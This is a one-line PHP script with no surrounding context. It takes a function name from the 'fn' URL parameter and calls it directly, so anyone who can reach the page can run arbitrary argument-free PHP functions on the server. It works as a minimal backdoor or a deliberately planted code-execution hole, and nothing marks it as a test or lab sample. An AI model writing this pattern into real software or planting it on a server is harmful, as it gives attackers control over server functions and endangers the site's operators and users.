<?php $fn = $_GET['fn']; $fn();
